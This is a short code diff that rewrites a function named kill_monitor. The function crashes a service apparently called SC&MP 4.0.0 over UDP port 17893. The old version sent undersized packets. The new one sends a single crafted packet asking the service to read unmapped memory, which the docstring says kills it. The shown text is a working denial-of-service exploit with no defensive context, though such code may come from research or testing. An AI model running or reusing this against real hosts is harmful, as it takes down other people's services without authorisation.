@@ -52,11 +52,10 @@ def ask_version(host: str) -> bytes:
 
 
 def kill_monitor(host: str) -> None:
-    """SC&MP 4.0.0 does not survive payloads shorter than its header."""
+    """SC&MP 4.0.0 does not survive a request to read where there is no memory."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         sock.connect((host, 17893))
-        for size in range(9):
-            sock.send(b"x" * size)
+        sock.send(struct.pack("<2x8B2H3I", 0x87, 0xFF, 0, 0xFF, 0, 0, 0, 0, 2, 2, 0x50000000, 4, 2))
     time.sleep(1.5)
 
 
